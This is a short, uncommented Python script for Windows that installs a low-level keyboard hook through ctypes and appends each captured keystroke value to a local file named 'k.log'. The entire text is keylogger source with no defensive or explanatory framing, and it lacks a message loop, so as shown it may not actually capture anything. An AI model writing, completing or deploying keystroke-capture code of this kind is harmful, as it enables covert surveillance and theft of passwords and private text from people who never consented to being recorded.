import ctypes, sys
if sys.platform == "win32":
    user32 = ctypes.windll.user32
    WH_KEYBOARD_LL = 13
    CMPFUNC = ctypes.WINFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.POINTER(ctypes.c_void_p))
    def _proc(n, w, l):
        open("k.log", "a").write(str(l[0]))
        return user32.CallNextHookEx(None, n, w, l)
    _ptr = CMPFUNC(_proc)
    user32.SetWindowsHookExA(WH_KEYBOARD_LL, _ptr, None, 0)
